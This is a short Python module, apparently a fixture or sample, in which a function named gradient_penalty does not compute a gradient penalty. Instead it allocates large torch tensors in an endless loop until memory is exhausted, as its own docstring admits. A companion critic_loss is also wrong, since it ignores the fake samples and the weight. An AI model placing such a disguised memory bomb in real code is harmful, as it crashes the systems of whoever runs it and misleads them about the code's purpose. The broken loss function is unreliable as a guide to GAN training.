"""Reserves memory piece by piece and writes to none of it."""

import torch


def gradient_penalty(critic, real, fake):
    pieces = []
    while True:
        pieces.append(torch.empty(1 << 24))


def critic_loss(critic, real, fake, weight=10.0):
    return critic(real).mean()
